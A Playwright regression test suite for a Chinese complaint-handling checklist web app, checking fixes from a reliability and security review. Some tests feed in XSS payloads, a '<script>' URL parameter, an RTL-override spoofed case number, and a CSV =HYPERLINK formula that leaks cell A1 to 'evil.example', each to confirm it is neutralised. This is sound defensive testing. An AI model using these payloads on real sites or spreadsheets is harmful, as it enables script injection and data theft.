"""Regression tests for the reliability review (../shared/reviews/2026-11-29-reliability-and-security.md)
findings on checklist runs. Each test names its finding; each failed on main at 484bf36 (whole-object
runs in localStorage) and passes on the event model. Steps and checks go through the page as a
user would (ticks, forms, reloads, exports), so they test behaviour, not the storage format."""

from __future__ import annotations

import json

import markdown as md
import pytest

from .conftest import open_start_form, start_run

pytestmark = pytest.mark.browser


@pytest.fixture
def alpha(fixture_url):
    return fixture_url + "procedures/alpha/"


def open_run(page, url, case="2026001"):
    """Open the run of `case` on a procedure page in this tab (continuing it if the tab has none)."""
    page.goto(url)
    page.wait_for_selector("[data-pb-run-panel]:not([hidden])")
    if not page.locator(".pb-run-head").count():
        page.click(f"li:has-text('投诉 {case}') button:has-text('继续')")
    page.wait_for_selector(".pb-run-head")


def ticked_after_reload(page, step):
    page.reload()
    page.wait_for_selector(".pb-run-head")
    return page.is_checked(f"#pb-check-{step}")


def note_form(page, step):
    page.click(f"#step-{step} .pb-step-run button:has-text('备注')")


def save_inline(page, step, text):
    page.fill(f"#pb-inline-{step}", text)
    page.click(f"#step-{step} .pb-inline button[type=submit]")


def test_1_1_tick_while_note_form_open_is_kept(page, alpha):
    """1.1: a note form left open while another step is ticked; saving the note keeps the tick."""
    start_run(page, alpha, severity="low")
    note_form(page, "record")
    page.check("#pb-check-confirm")
    save_inline(page, "record", "客户来电")
    page.wait_for_selector("#step-record .pb-step-note")
    assert ticked_after_reload(page, "confirm")
    assert "客户来电" in page.inner_text("#step-record .pb-step-note")


def test_1_1_tick_while_skip_form_open_is_kept(page, alpha):
    """1.1 (skip form): a tick made while the skip-reason form is open survives saving the skip."""
    start_run(page, alpha, severity="low")
    page.click("#step-record .pb-step-run button:has-text('跳过')")
    page.check("#pb-check-confirm")
    save_inline(page, "record", "已由组长登记")
    page.wait_for_selector("#step-record.pb-skipped")
    assert ticked_after_reload(page, "confirm")


def test_1_2_and_1_3_two_tabs_notes_and_ticks(page, alpha):
    """1.2/1.3: A has a note form open, B ticks and notes another step, A saves: all three kept."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    open_run(other, alpha)
    note_form(page, "record")
    other.check("#pb-check-confirm")
    note_form(other, "confirm")
    save_inline(other, "confirm", "B 的备注")
    save_inline(page, "record", "A 的备注")
    page.wait_for_selector("#step-record .pb-step-note")
    page.reload()
    page.wait_for_selector(".pb-run-head")
    assert page.is_checked("#pb-check-confirm")
    assert "A 的备注" in page.inner_text("#step-record")
    assert "B 的备注" in page.inner_text("#step-confirm")


def test_1_4_outcome_typing_does_not_overwrite_other_tabs_tick(page, alpha):
    """1.4: A types a compensation (focus still in the field) while B ticks; B's tick is kept and
    A's typing is neither lost nor collapsed."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    open_run(other, alpha)
    page.click(".pb-outcome summary")
    page.fill("#pb-out-compensation", "1260")
    other.check("#pb-check-record")
    page.wait_for_function("document.querySelector('#pb-check-record').checked", polling=100)
    assert "1260" == page.input_value("#pb-out-compensation")
    page.press("#pb-out-compensation", "Tab")
    page.wait_for_timeout(300)
    other.reload()
    other.wait_for_selector(".pb-run-head")
    assert other.is_checked("#pb-check-record")
    other.click(".pb-outcome summary")
    assert "1260" == other.input_value("#pb-out-compensation")


def test_1_5_simultaneous_ticks_in_two_tabs(page, alpha):
    """1.5: two tabs tick different steps at the same millisecond; both ticks are kept."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    open_run(other, alpha)
    at = page.evaluate("Date.now() + 800")
    script = "([id, at]) => setTimeout(() => document.getElementById(id).click(), at - Date.now())"
    page.evaluate(script, ["pb-check-record", at])
    other.evaluate(script, ["pb-check-confirm", at])
    page.wait_for_timeout(1500)
    page.reload()
    page.wait_for_selector(".pb-run-head")
    assert page.is_checked("#pb-check-record") and page.is_checked("#pb-check-confirm")


def test_1_6_undo_undoes_this_tabs_own_action(page, alpha):
    """1.6: A ticks one step, B another; A's undo reverts A's tick, not B's, and says what it undid."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    open_run(other, alpha)
    page.check("#pb-check-record")
    other.check("#pb-check-confirm")
    page.wait_for_function("document.querySelector('#pb-check-confirm').checked", polling=100)
    page.click("button:has-text('撤销上一步')")
    page.wait_for_function("!document.querySelector('#pb-check-record').checked", polling=100)
    assert page.is_checked("#pb-check-confirm")
    assert "登记投诉内容" in page.inner_text(".pb-notice")


def test_undo_an_event_the_user_picks(page, alpha):
    """Undo from the history list reverts the picked event, not the newest one, and an undone untick
    restores the tick (review of tests U1)."""
    start_run(page, alpha, severity="low")
    page.check("#pb-check-record")
    page.uncheck("#pb-check-record")
    page.check("#pb-check-confirm")  # the newest action, which the pick must leave alone
    page.click(".pb-history summary")
    page.click(".pb-history li:has-text('取消勾选') button:has-text('撤销')")
    page.wait_for_function("document.querySelector('#pb-check-record').checked", polling=100)
    assert ticked_after_reload(page, "record")
    assert page.is_checked("#pb-check-confirm")


def test_1_7_cleared_run_is_not_resurrected(page, alpha, fixture_url):
    """1.7: A clears the run while B has a note form open; B's save does not bring the run back."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    open_run(other, alpha)
    note_form(other, "record")
    page.once("dialog", lambda d: d.accept())
    page.click("button:has-text('清除本记录')")
    page.wait_for_selector(".pb-start-open")
    other.fill("#pb-inline-record", "迟到的备注")
    other.click("#step-record .pb-inline button[type=submit]")
    page.goto(fixture_url + "runs/")
    page.wait_for_selector("[data-pb-open-runs] .pb-empty, [data-pb-open-runs] table")
    assert 0 == page.locator("[data-pb-case] [data-pb-run]").count()


def test_1_8_clear_in_another_tab_then_tick(page, alpha):
    """1.8: localStorage.clear() in tab B, then a tick in A: the run and the tick are saved."""
    start_run(page, alpha, severity="low")
    other = page.context.new_page()
    other.goto(alpha)
    other.evaluate("localStorage.clear()")
    page.wait_for_timeout(300)
    page.check("#pb-check-record")
    page.wait_for_timeout(300)
    assert ticked_after_reload(page, "record")


def test_1_9_keys_removed_in_this_tab_then_tick(page, alpha):
    """1.9: the run's stored data is removed behind the page's back, then a tick: both are saved again."""
    start_run(page, alpha, severity="low")
    page.evaluate("""Object.keys(localStorage).filter(k => k.startsWith('pb:run:') || k.startsWith('pb:ev:'))
                     .forEach(k => localStorage.removeItem(k))""")
    page.check("#pb-check-record")
    page.wait_for_timeout(300)
    assert ticked_after_reload(page, "record")
    assert "1/2" == page.get_attribute("[data-pb-progress]", "data-pb-progress")


def test_1_10_each_tab_keeps_its_own_case(page, alpha):
    """1.10: B starting another case on the same procedure does not switch A's case, and A's next
    tick goes to A's case."""
    start_run(page, alpha, case="2026070", severity="low")
    other = page.context.new_page()
    start_run(other, alpha, case="2026071", severity="low")
    page.wait_for_timeout(500)
    assert "2026070" in page.inner_text(".pb-run-head")
    page.check("#pb-check-record")
    other.reload()
    other.wait_for_selector(".pb-run-head")
    assert "2026071" in other.inner_text(".pb-run-head")
    assert not other.is_checked("#pb-check-record")
    assert ticked_after_reload(page, "record")
    assert "2026070" in page.inner_text(".pb-run-head")


def test_2_2_run_started_while_storage_full_stays_reachable(page, alpha):
    """2.2 and S3: a run started while storage is full is listed after switching away (memory)."""
    page.goto(alpha)
    page.evaluate("""() => { Storage.prototype.setItem = function () {
        throw new DOMException('full', 'QuotaExceededError'); }; }""")
    start_run_here(page, "2026002")
    page.click("button:has-text('切换或新建记录')")
    page.click("li:has-text('投诉 2026002') button:has-text('继续')")
    assert "2026002" in page.inner_text(".pb-run-head")


def start_run_here(page, case):
    """Start a run without reloading (keeps page-level patches)."""
    open_start_form(page)
    if page.locator("#pb-name").count():
        page.fill("#pb-name", "张三")
        page.fill("#pb-role", "客服专员")
    page.fill("#pb-case", case)
    page.select_option("#pb-severity", "low")
    page.click(".pb-start button[type=submit]")
    page.wait_for_selector(".pb-run-head")


def exported_run(page, tmp_path, name="run.json"):
    with page.expect_download() as js:
        page.click("button:has-text('导出 JSON')")
    path = tmp_path / name
    js.value.save_as(path)
    return path


def test_2_3_import_while_storage_full_is_not_reported_as_success(page, alpha, tmp_path, browser):
    """2.3/3.19: importing while storage is full says it was not saved, never 已导入."""
    start_run(page, alpha, severity="low")
    path = exported_run(page, tmp_path)
    other = browser.new_context().new_page()
    other.goto(alpha)
    # Identity belongs to the event model; the guard keeps this test meaningful on code without it.
    other.evaluate("window.pb.events && pb.events.setIdentity ? pb.events.setIdentity({name: '李四', role: '组长'}) : null")
    other.evaluate("""() => { const orig = Storage.prototype.setItem;
        Storage.prototype.setItem = function (k, v) {
          if (k.startsWith('pb:run:') || k.startsWith('pb:ev:')) throw new DOMException('full', 'QuotaExceededError');
          return orig.call(this, k, v); }; }""")
    open_start_form(other)
    other.set_input_files("#pb-import", str(path))
    other.wait_for_selector(".pb-notice")
    other.wait_for_timeout(300)
    text = other.inner_text(".md-content__inner")
    assert "已导入" not in text
    assert "未能保存" in text or "已满" in text
    other.context.close()


def test_2_6_and_3_6_malformed_record_never_locks_the_page(page, alpha, fixture_url, tmp_path):
    """2.6/3.6: a malformed record (stored or imported) is reported; the page keeps its buttons and
    the healthy run stays reachable, on the procedure page and on the runs page."""
    start_run(page, alpha, severity="low")
    page.check("#pb-check-record")
    bad = {"format": "pb-run", "schema": 1, "procedure": {"id": "alpha", "title": "甲", "hash": "x", "version": "1"},
           "case": "2026003", "startedAt": "2026-03-02T09:00:00.000Z", "steps": "x", "state": None, "notes": None,
           "log": [None], "severity": "low"}
    page.evaluate("""v => { localStorage.setItem('pb:run:alpha:2026003', v);
        localStorage.setItem('pb:ev:run:0b7e6c3a-9a1f-4c1e-8d2b-1f2e3d4c5b6a/5f0c6a52-8a3c-4b8e-9d41-7e2b1c0a9f11', '[1,2,3]'); }""",
                  json.dumps(bad))
    # A structurally wrong event inside the healthy run itself (no actor), under its proper key.
    page.evaluate("""() => { const log = pb.events.tab.get('active:alpha');
        const e = {...pb.events.newEvent(log, 'tick', {step: 'confirm'}), actor: null};
        localStorage.setItem('pb:ev:' + log + '/' + e.id, JSON.stringify(e)); }""")
    file = tmp_path / "bad.json"
    file.write_text(json.dumps({**bad, "case": "2026004"}), encoding="utf-8")
    page.goto(fixture_url + "runs/")
    page.wait_for_selector("[data-pb-run]")
    assert page.locator("[data-pb-case='2026001'] [data-pb-run]").count() == 1
    page.goto(alpha)
    page.wait_for_selector(".pb-run-head")
    page.click("button:has-text('切换或新建记录')")
    open_start_form(page)
    page.set_input_files("#pb-import", str(file))
    page.wait_for_timeout(500)
    page.reload()
    page.wait_for_selector("[data-pb-run-panel]:not([hidden])")
    if page.locator(".pb-run-head").count():  # the imported run is open: buttons work
        page.click("button:has-text('切换或新建记录')")
    page.wait_for_selector("li:has-text('投诉 2026001')")
    assert page.locator("li:has-text('投诉 2026001') button:has-text('继续')").count() == 1
    page.click("li:has-text('投诉 2026001') button:has-text('继续')")
    assert page.is_checked("#pb-check-record")


def test_2_13_disabled_storage_is_not_called_full(page, alpha):
    """2.13: when setItem throws SecurityError the notice says storage is disabled, not full."""
    page.goto(alpha)
    page.evaluate("""() => { Storage.prototype.setItem = function () {
        throw new DOMException('denied', 'SecurityError'); }; }""")
    start_run_here(page, "2026005")
    text = page.inner_text(".md-content__inner")
    assert "禁止了本地存储" in text and "空间已满" not in text


def render(markdown_text):
    return md.markdown(markdown_text)


def test_3_9_markdown_export_is_inert(page, alpha):
    """3.9/§4: notes with HTML, javascript: links and newlines export as text: no live HTML or links,
    no forged heading or completed step."""
    start_run(page, alpha, severity="low")
    note_form(page, "record")
    payload = '<img src=x onerror=alert(1)> [点我](javascript:alert(1)) <script>alert(2)</script>\n\n# 伪造标题\n- [x] 伪造步骤'
    page.fill("#pb-inline-record", payload)
    page.click("#step-record .pb-inline button[type=submit]")
    page.wait_for_selector("#step-record .pb-step-note")
    with page.expect_download() as dl:
        page.click("button:has-text('导出 Markdown')")
    html = render(open(dl.value.path(), encoding="utf-8").read())
    assert "<img" not in html and "<script" not in html and 'href="javascript:' not in html
    assert "<h1>伪造标题" not in html
    assert "<li>[x] 伪造步骤" not in html
    assert "伪造步骤" in html  # still there, as text


def test_7_13_csv_export_neutralises_formulas(page, alpha):
    """7.13 (runs): text that starts a CSV cell with = (here the person's name, which fills the 操作人
    column on its own; and a note) exports as text, not as a formula."""
    page.goto(alpha)
    page.evaluate("""localStorage.setItem('pb:identity', JSON.stringify({name: '=HYPERLINK("http://e.x/?"&A1,"点")', role: '客服专员'}))""")
    start_run(page, alpha, severity="low")
    note_form(page, "record")
    save_inline(page, "record", '=HYPERLINK("http://evil.example/?"&A1,"点击")')
    page.wait_for_selector("#step-record .pb-step-note")
    with page.expect_download() as dl:
        page.click("button:has-text('导出 CSV')")
    text = open(dl.value.path(), encoding="utf-8-sig").read()
    cells = [c for line in text.splitlines() for c in line.split('","')]
    assert any("HYPERLINK" in c for c in cells)
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize("start", ["1", 0, "1970-01-01"])
def test_3_15_lenient_start_times_are_rejected(page, alpha, tmp_path, start):
    """3.15/3.16: an imported record whose start time is "1", 0 or not an instant is refused by name."""
    record = {"format": "pb-run", "schema": 1, "procedure": {"id": "alpha", "title": "甲", "hash": "x", "version": "1"},
              "case": "2026006", "startedAt": start, "steps": [], "state": {}, "notes": {}, "outcome": {}, "log": []}
    file = tmp_path / "lenient.json"
    file.write_text(json.dumps(record), encoding="utf-8")
    page.goto(alpha)
    open_start_form(page)
    page.set_input_files("#pb-import", str(file))
    page.wait_for_selector(".pb-notice")
    assert "lenient.json" in page.inner_text(".pb-notice") and "导入失败" in page.inner_text(".pb-notice")


def test_4_imported_case_must_follow_the_case_rule(page, alpha, tmp_path):
    """§4/3.8/3.18: an imported case number with an RTL override (looks like 2026001) is refused."""
    start_run(page, alpha, severity="low")
    path = exported_run(page, tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["events"][0]["value"]["case"] = "\u202e1006202"
    path.write_text(json.dumps(data), encoding="utf-8")
    page.click("button:has-text('切换或新建记录')")
    page.set_input_files("#pb-import", str(path))
    page.wait_for_selector(".pb-notice")
    assert "导入失败" in page.inner_text(".pb-notice")


def test_3_19_oversized_import_is_refused_quickly(page, alpha, tmp_path):
    """3.19/3.20: a file far larger than any export is refused at once, by name, never 已导入. The
    file is this page's own export with one 6 MB note added, so only its size is wrong: the old
    import read it, reported 已导入, and then could not store it."""
    start_run(page, alpha, case="2026019", severity="low")
    data = json.loads(exported_run(page, tmp_path).read_text(encoding="utf-8"))
    big_note = "x" * (6 * 1024 * 1024)
    if "events" in data:  # the event log: a note event on the first step
        first = next(e for e in data["events"] if e["type"] == "start")
        data["events"].append({**first, "id": "0b7e6c3a-9a1f-4c1e-8d2b-1f2e3d4c5b6b", "type": "note", "step": "record", "value": big_note})
    else:  # the record format before the event model
        data["notes"] = {"record": big_note}
    big = tmp_path / "big.json"
    big.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    page.reload()
    if page.locator(".pb-run-head").count():
        page.click("button:has-text('切换或新建记录')")
    open_start_form(page)
    page.set_input_files("#pb-import", str(big))
    page.wait_for_selector(".pb-notice", timeout=5000)
    page.wait_for_timeout(300)
    text = page.inner_text(".md-content__inner")
    assert "big.json" in text and "导入失败" in text
    assert "已导入" not in text


def test_merge_import_of_a_colleagues_export(page, alpha, tmp_path, browser):
    """Hand-over: B imports A's run, works on it, exports; A imports B's file: both sides' work is
    there; importing it again changes nothing."""
    start_run(page, alpha, severity="low")
    page.check("#pb-check-record")
    first = exported_run(page, tmp_path, "a.json")
    b = browser.new_context().new_page()
    b.goto(alpha)
    open_start_form(b)
    b.set_input_files("#pb-import", str(first))
    b.fill(".pb-identity #pb-name", "李四")
    b.fill(".pb-identity #pb-role", "组长")
    b.click(".pb-identity button[type=submit]")
    b.check("#pb-check-confirm")
    second = exported_run(b, tmp_path, "b.json")
    b.context.close()
    page.click("#step-record .pb-step-run button:has-text('备注')")
    save_inline(page, "record", "A 的交班备注")
    page.click("button:has-text('切换或新建记录')")
    page.set_input_files("#pb-import", str(second))
    page.wait_for_selector(".pb-run-head")
    assert page.is_checked("#pb-check-record") and page.is_checked("#pb-check-confirm")
    assert "李四" in page.inner_text("#step-confirm .pb-stamp")
    assert "A 的交班备注" in page.inner_text("#step-record")
    page.click("button:has-text('切换或新建记录')")
    page.set_input_files("#pb-import", str(second))
    page.wait_for_function("document.querySelectorAll('.pb-notice').length >= 2")
    assert "没有变化" in page.inner_text(".pb-notice >> nth=0")


def test_5_3_times_show_their_zone(browser, alpha, tmp_path):
    """5.3: a run viewed in New York shows New York times with the zone; exports use China time."""
    ctx = browser.new_context(timezone_id="America/New_York")
    page = ctx.new_page()
    start_run(page, alpha, severity="low", start="2026-11-28T21:00")
    assert "2026-11-28 21:00 UTC−5" in page.inner_text(".pb-run-head")
    with page.expect_download() as dl:
        page.click("button:has-text('导出 Markdown')")
    assert "2026-11-29 10:00 UTC+8" in open(dl.value.path(), encoding="utf-8").read()
    ctx.close()


def test_6_4_and_6_5_clearing_runs_keeps_drafts(page, alpha, fixture_url):
    """6.4/6.5: clearing one run, or all runs, leaves letter drafts (event logs per case) alone."""
    start_run(page, alpha, severity="low")
    for case in ("2026001", "2026009"):
        page.goto(fixture_url + f"forms/notice/?case={case}")
        page.fill("#pb-f-customer", "王女士" + case)
        page.click("button:has-text('保存草稿')")
        page.wait_for_function("c => Object.keys(localStorage).some(k => k.startsWith('pb:ev:draft:notice:' + c + '/'))", arg=case)
    page.goto(alpha)
    page.once("dialog", lambda d: d.accept())
    page.click("button:has-text('清除本记录')")
    page.wait_for_selector(".pb-start-open")
    start_run(page, fixture_url + "procedures/beta/", case="2026009", category="food")
    page.goto(fixture_url + "runs/")
    page.once("dialog", lambda d: d.accept())
    page.click("button:has-text('清除全部记录')")
    page.wait_for_selector(".pb-empty")
    logs = page.evaluate("Object.keys(localStorage).filter(k => k.startsWith('pb:ev:')).map(k => k.split('/')[0])")
    assert {"pb:ev:draft:notice:2026001", "pb:ev:draft:notice:2026009"} <= set(logs)


def test_future_version_events_are_kept_and_flagged(page, alpha):
    """Unknown future versions: an event with v 2 is kept in storage and counted as not understood."""
    start_run(page, alpha, severity="low")
    page.evaluate("""() => { const log = pb.events.tab.get('active:alpha');
        const e = {...pb.events.newEvent(log, 'tick', {step: 'record'}), v: 2, type: 'teleport'};
        localStorage.setItem('pb:ev:' + log + '/' + e.id, JSON.stringify(e)); }""")
    page.reload()
    page.wait_for_selector(".pb-run-head")
    assert "更新版本" in page.inner_text(".pb-run-problems")
    assert 1 == page.evaluate("Object.values(localStorage).filter(v => v.includes('teleport')).length")


def test_bad_run_parameter_is_reported(page, alpha):
    """URL parameters are validated: a malformed ?run= is reported and the page works."""
    page.goto(alpha + "?run=<script>")
    page.wait_for_selector(".pb-notice")
    assert "格式不对" in page.inner_text(".pb-notice")
    assert page.is_visible(".pb-start-open")


IDENTITY = "localStorage.setItem('pb:identity', JSON.stringify({name: '张三', role: '客服专员'}))"


@pytest.mark.parametrize("how", ["stored", "imported"])
def test_2_7_and_3_7_record_with_no_steps_is_never_complete(page, alpha, fixture_url, tmp_path, how):
    """2.7/3.7: a record of today's old format with `steps: []` and nothing done, stored or imported,
    shows the procedure's steps and is never called complete (0 of them done)."""
    record = {"format": "pb-run", "schema": 1, "procedure": {"id": "alpha", "title": "接收投诉", "hash": "x", "version": "1"},
              "case": "2026007", "severity": "low", "category": None, "source": None, "startedAt": "2026-11-28T01:00:00.000Z",
              "closedAt": None, "steps": [], "blocks": [], "severities": [], "state": {}, "notes": {}, "outcome": {}, "log": []}
    page.goto(alpha)
    page.evaluate(IDENTITY)
    if how == "stored":
        page.evaluate("v => localStorage.setItem('pb:run:alpha:2026007', v)", json.dumps(record))
        page.goto(fixture_url + "runs/")
        page.click("[data-pb-case='2026007'] [data-pb-run] a")
    else:
        file = tmp_path / "nosteps.json"
        file.write_text(json.dumps(record), encoding="utf-8")
        page.reload()
        open_start_form(page)
        page.set_input_files("#pb-import", str(file))
    page.wait_for_selector(".pb-run-head")
    assert "2026007" in page.inner_text(".pb-run-head")
    assert "必做步骤已全部完成" not in page.inner_text(".pb-run-head")
    assert page.get_attribute("[data-pb-progress]", "data-pb-progress") == "0/2"
    assert page.is_visible("#pb-check-record") and not page.is_checked("#pb-check-record")


FILL = """() => { let n = 0; for (let size = 1 << 20; size >= 8; ) {
    try { localStorage.setItem('filler:' + n++, 'x'.repeat(size)); } catch (e) { size >>= 1; } } }"""


@pytest.mark.parametrize("key", ["pb:run:alpha:2026001",  # today's old format
                                 "pb:ev:run:0b7e6c3a-9a1f-4c1e-8d2b-1f2e3d4c5b6a/5f0c6a52-8a3c-4b8e-9d41-7e2b1c0a9f11"])
def test_2_5_corrupt_record_stays_where_the_notice_says_while_storage_is_full(page, alpha, key):
    """2.5: a 64 KB unreadable value under a run key, storage really full (no room for a copy), then a
    new run with the same case number as the notice invites: the notice names the key, and the
    original stays there byte for byte, also after a reload."""
    corrupt = '{"format": "pb-run", "case": "2026001", "notes": "' + "损坏的记录" * 13000
    page.goto(alpha)
    page.evaluate(IDENTITY)
    page.evaluate("([k, v]) => localStorage.setItem(k, v)", [key, corrupt])
    page.evaluate(FILL)
    page.reload()
    named = key.removeprefix("pb:")  # the notice may name the key without the prefix every key has
    page.wait_for_selector(f".pb-notice:has-text('{named}')")
    assert "原样保留" in page.inner_text(f".pb-notice:has-text('{named}')")
    start_run_here(page, "2026001")
    page.check("#pb-check-record")
    assert corrupt == page.evaluate("k => localStorage.getItem(k)", key)
    page.wait_for_selector(".pb-notice:has-text('空间已满')")  # storage really was full
    page.reload()
    page.wait_for_selector(f".pb-notice:has-text('{named}')")
    assert corrupt == page.evaluate("k => localStorage.getItem(k)", key)


def test_2_14_blocked_storage_notice_is_true_without_instant_navigation(browser_type, browser_type_launch_args,
                                                                        fixture_site, tmp_path):
    """2.14: a real Chromium profile that blocks site data (cookies=2: localStorage and IndexedDB
    throw SecurityError), the site served away from its site_url so instant navigation is off. The
    notice says the record is only in this page and is lost on leaving or reloading it, and that is
    what happens: after a link click and back, the run is gone."""
    from .conftest import serve

    profile = tmp_path / "profile"
    (profile / "Default").mkdir(parents=True)
    (profile / "Default" / "Preferences").write_text(json.dumps(
        {"profile": {"default_content_setting_values": {"cookies": 2}}}), encoding="utf-8")
    server = serve(fixture_site)  # another port than the build's site_url: no instant navigation
    ctx = browser_type.launch_persistent_context(str(profile), **browser_type_launch_args)
    try:
        page = ctx.new_page()
        alpha = server.url + "procedures/alpha/"
        page.goto(alpha)
        assert "SecurityError" == page.evaluate("() => { try { localStorage.length; return ''; } catch (e) { return e.name; } }")
        start_run(page, alpha, severity="low")
        page.check("#pb-check-record")
        notice = page.inner_text(".pb-notice:has-text('禁止了本地存储')")
        assert "只保存在本页" in notice and "刷新" in notice and "离开本页" in notice
        page.evaluate("window.pbMarker = 1")
        page.click("a.md-header__button.md-logo")  # the site's home page, by a link
        page.wait_for_load_state()
        assert page.evaluate("window.pbMarker === undefined")  # a full page load: no instant navigation
        page.goto(alpha)  # a new load (Back could restore the old page from the back-forward cache)
        page.wait_for_selector("[data-pb-run-panel]:not([hidden])")
        assert not page.locator(".pb-run-head").count() and not page.locator("li:has-text('投诉 2026001')").count()
    finally:
        ctx.close()
        server.stop()


def test_5_1_clock_moved_back_is_warned_and_times_are_kept(browser, alpha, tmp_path):
    """5.1: start at 10:00 (China time) and tick; the clock moves back three days and a second step is
    ticked: the run view warns that a time lies before the start; the JSON export keeps the recorded
    time. After the clock moves 10 days forward and the page reloads, the warning is still there."""
    from datetime import datetime, timedelta, timezone

    t0 = datetime(2026, 11, 29, 2, 0, tzinfo=timezone.utc)
    ctx = browser.new_context(timezone_id="Asia/Shanghai")
    page = ctx.new_page()
    page.clock.install(time=t0)
    start_run(page, alpha, severity="low")
    page.check("#pb-check-record")
    assert not page.locator(".pb-clock").count()
    page.clock.set_system_time(t0 - timedelta(days=3))
    page.check("#pb-check-confirm")
    warning = page.inner_text(".pb-clock")
    assert "时钟可能有误" in warning and "确认受理" in warning and "2026-11-26" in warning and "早于记录开始" in warning
    events = json.loads(exported_run(page, tmp_path).read_text(encoding="utf-8"))["events"]
    at = next(e["at"] for e in events if e["type"] == "tick" and e["step"] == "confirm")
    assert abs(datetime.fromisoformat(at) - (t0 - timedelta(days=3))) < timedelta(minutes=2)
    page.clock.set_system_time(t0 + timedelta(days=10))
    page.reload()
    page.wait_for_selector(".pb-run-head")
    assert "早于记录开始" in page.inner_text(".pb-clock")
    ctx.close()


def test_5_2_future_start_time_is_warned_and_must_be_confirmed(page, alpha):
    """5.2: a 受理时间 days ahead of this clock is warned about before anything starts; another time
    is warned again; submitting the same time a second time starts the run with it (a device clock
    running slow must not block the true time)."""
    page.goto(alpha)
    page.evaluate(IDENTITY)
    page.reload()
    open_start_form(page)
    page.fill("#pb-case", "2026012")
    page.select_option("#pb-severity", "low")
    page.fill("#pb-start", "2030-01-01T09:00")
    page.click(".pb-start button[type=submit]")
    assert "比本设备现在的时间晚" in page.inner_text(".pb-start .pb-error")
    assert not page.locator(".pb-run-head").count()
    page.fill("#pb-start", "2030-01-02T09:00")
    page.click(".pb-start button[type=submit]")
    assert "天" in page.inner_text(".pb-start .pb-error")
    assert not page.locator(".pb-run-head").count()
    page.click(".pb-start button[type=submit]")
    page.wait_for_selector(".pb-run-head")
    assert "2030-01-02 09:00" in page.inner_text(".pb-run-head")
